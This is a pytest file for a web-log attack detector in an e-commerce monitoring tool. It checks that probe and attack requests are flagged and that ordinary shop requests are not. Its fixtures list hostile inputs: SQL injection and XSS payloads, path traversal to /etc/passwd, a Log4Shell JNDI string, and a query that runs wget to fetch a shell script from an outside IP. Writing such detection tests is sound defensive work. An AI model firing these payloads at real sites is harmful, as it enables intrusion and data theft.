"""What a web request is: the probe and attack signatures, on the forms real logs hold
(percent-encoded), and the ordinary requests that must not match."""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pytest

from ecomwatch.detect.web_flags import WebFlag, web_flags
from ecomwatch.schema import EVENT_SCHEMA


def _flags(rows: list[dict[str, object]]) -> list[WebFlag]:
    n = len(rows)
    base = {"event_time": 0, "event_type": "request", "source": "s", "source_pos": 0}
    columns = {
        f.name: pa.array([{**base, **row}.get(f.name) for row in rows], f.type)
        if f.name in base or any(f.name in row for row in rows) else pa.nulls(n, f.type)
        for f in EVENT_SCHEMA
    }  # fmt: skip
    flags, _ = web_flags(pa.table(columns, schema=EVENT_SCHEMA))
    return [WebFlag(v) for v in flags.to_pylist()]


def _get(path: str, query: str | None = None, method: str = "GET") -> dict[str, object]:
    return {"status": 200, "method": method, "path": path, "query": query, "request_kind": "page"}


PATHS = {
    WebFlag.SENSITIVE_FILE: [
        "/.env",
        "/app/.env.production",
        "/.git/HEAD",
        "/.git/config",
        "/wp-config.php.bak",
        "/backup.sql",
        "/db.zip",
        "/.aws/credentials",
        "/old/index.php.swp",
        "/.svn/entries",
        "/phpinfo.php",
    ],
    WebFlag.ADMIN: [
        "/wp-admin/",
        "/blog/wp-login.php",
        "/phpmyadmin/index.php",
        "/pma/",
        "/adminer.php",
        "/manager/html",
        "/vendor/phpunit/phpunit/src/Util/PHP/x.php",
    ],
    WebFlag.TRAVERSAL: [
        "/../../etc/passwd",
        "/static/..%2f..%2fetc/passwd",
        "/a/%2e%2e/%2e%2e/win.ini",
        "/cgi-bin/.%2e/.%2e/bin/sh",
    ],
    WebFlag.ROBOTS_TXT: ["/robots.txt"],
    WebFlag.EXPLOIT: [
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/wsoshell.php",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "/boaform/admin/formLogin",
    ],
    WebFlag.PROXY: ["http://example.com/", "https://api.ipify.org/", "example.com:443"],
}
QUERIES = {
    WebFlag.SQL_INJECTION: [
        "id=1%27%20OR%20%271%27%3D%271",
        "id=1+UNION+SELECT+1,2,3--",
        "id=5%20AND%20SLEEP(5)",
        "id=1%20and%201=1",
        "q=x%27;%20DROP%20TABLE%20users",
        "id=(SELECT+1)",
    ],
    WebFlag.XSS: [
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "q=%22%3E%3Csvg/onload=alert(1)%3E",
        "u=javascript:alert(1)",
        "q=<img src=x onerror=alert(1)>",
    ],
    WebFlag.TRAVERSAL: ["file=../../../../etc/passwd", "page=..%2f..%2fetc%2fshadow"],
    WebFlag.EXPLOIT: [
        "x=${jndi:ldap://198.51.100.1/a}",
        "x=%24%7Bjndi:ldap://h/a}",
        "s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
        "cmd=cd+/tmp;wget+http://198.51.100.1/x.sh",
    ],
}
ORDINARY_PATHS = [
    "/",
    "/product/blue-shirt/",
    "/administration-of-tax",
    "/blog/my-.env-tips",
    "/products/a..b",
    "/category/admins-choice",
    "/static/app.min.js",
    "/why/http:/www.example.com/wp-admin/admin-ajax.php",
    "/sitemap.xml",
]
ORDINARY_QUERIES = [
    "q=shoes&page=2",
    "q=rock+and+roll",
    "sort=price&order=desc",
    "q=select+shoes+from+nike",
    "q=tom%27s+diner",
    "utm_source=newsletter",
    "q=1+or+2+pairs",
]
ATTACKS = WebFlag.SENSITIVE_FILE | WebFlag.ADMIN | WebFlag.TRAVERSAL | WebFlag.SQL_INJECTION \
    | WebFlag.XSS | WebFlag.EXPLOIT | WebFlag.PROXY  # fmt: skip


@pytest.mark.parametrize("flag", list(PATHS))
def test_path_signatures(flag: WebFlag) -> None:
    got = _flags([_get(path) for path in PATHS[flag]])
    assert [flag in g for g in got] == [True] * len(PATHS[flag]), PATHS[flag]


@pytest.mark.parametrize("flag", list(QUERIES))
def test_query_signatures(flag: WebFlag) -> None:
    got = _flags([_get("/search", query) for query in QUERIES[flag]])
    assert [flag in g for g in got] == [True] * len(QUERIES[flag]), QUERIES[flag]


def test_ordinary_requests_match_no_attack() -> None:
    rows = [_get(p) for p in ORDINARY_PATHS] + [_get("/search", q) for q in ORDINARY_QUERIES]
    got = _flags(rows)
    hits = [(row["path"], row["query"]) for row, g in zip(rows, got, strict=True) if g & ATTACKS]
    assert hits == []


def test_endpoints_count_when_posted_and_add_to_cart_links_count_as_carts() -> None:
    got = _flags([_get("/wp-login.php", method="POST"), _get("/wp-login.php"),
                  _get("/checkout/payment", method="POST"), _get("/cart/add", method="POST"),
                  _get("/shop/", "add-to-cart=42"),
                  _get("/", "wc-ajax=checkout", "POST")])  # fmt: skip
    assert WebFlag.LOGIN in got[0] and WebFlag.LOGIN not in got[1]
    assert WebFlag.PAYMENT in got[2] and WebFlag.PAYMENT in got[5]
    assert WebFlag.CART in got[3] and WebFlag.CART in got[4]


def test_kind_method_and_referrer_bits() -> None:
    got = _flags([
        {**_get("/a.css"), "request_kind": "static", "referrer": "https://shop.example/"},
        {**_get("/"), "method": "HEAD"},
        {**_get("example.com:443"), "method": "CONNECT"},
    ])  # fmt: skip
    assert WebFlag.PROXY in got[2]
    assert WebFlag.STATIC in got[0] and WebFlag.NO_REFERRER not in got[0]
    assert WebFlag.HEAD in got[1] and WebFlag.NO_REFERRER in got[1] and WebFlag.PAGE in got[1]


def test_a_shops_own_events_have_no_flags() -> None:
    rows = [{"path": "/.env", "query": "id=1+UNION+SELECT+1"}]  # no status: not a web request
    assert _flags(rows) == [WebFlag(0)]


def test_flags_remembered_from_earlier_batches_equal_fresh_ones() -> None:
    from ecomwatch.detect.web_flags import SeenText, WebFlagger

    paths = [*PATHS[WebFlag.SENSITIVE_FILE], "/", "/product/1", "/cart/add", "/wp-login.php"]
    rows = [_get(p, "id=1' UNION SELECT 1") if i % 3 else _get(p, method="POST")
            for i, p in enumerate(paths)]  # fmt: skip
    base = {"event_time": 0, "event_type": "request", "source": "s", "source_pos": 0}

    def table(part: list[dict[str, object]]) -> pa.Table:
        columns = {
            f.name: pa.array([{**base, **row}.get(f.name) for row in part], f.type)
            for f in EVENT_SCHEMA
        }
        return pa.table(columns, schema=EVENT_SCHEMA)

    flagger = WebFlagger()
    flagger.paths.limit = 12  # small: the second half of the batches starts over
    for part in (rows[:5], rows[3:], rows, rows[::-1], rows[:2]):
        assert flagger.flags(table(part)) == web_flags(table(part))
    assert 0 < len(flagger.paths.values) <= 12

    calls: list[int] = []

    def numbered(values: pa.Array) -> list[np.ndarray]:
        calls.append(len(values))
        return [np.arange(len(values))]

    seen = SeenText(numbered)
    seen.of(pa.array(["a", "b"]))
    assert seen.of(pa.array(["b", "c", "a"]))[0].tolist() == [1, 0, 0]  # c: 0 of its call
    assert calls == [0, 2, 1]  # only "c" was new the second time
